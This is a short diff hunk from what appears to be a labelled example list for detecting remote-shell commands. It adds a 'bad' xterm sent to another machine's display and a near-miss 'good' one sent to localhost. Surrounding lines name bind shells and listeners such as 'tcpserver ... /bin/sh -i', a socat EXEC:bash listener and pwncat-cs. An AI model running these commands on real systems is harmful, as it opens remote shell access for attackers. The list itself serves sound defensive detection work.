@@ -13,6 +13,10 @@ tcpserver 0 7007 /bin/sh -i
 pwncat-cs -lp 4444
 # bad: socat that was put there
 ./socat TCP4-LISTEN:7007,fork EXEC:bash
+# bad: a terminal on the screen of another machine
+xterm -display 203.0.113.7:1
+# good: nearly: a terminal on a screen of this machine
+xterm -display localhost:1
 # good: nearly: rustcat that shows what comes in
 rcat listen 6969
 # good: nearly: a server of a service
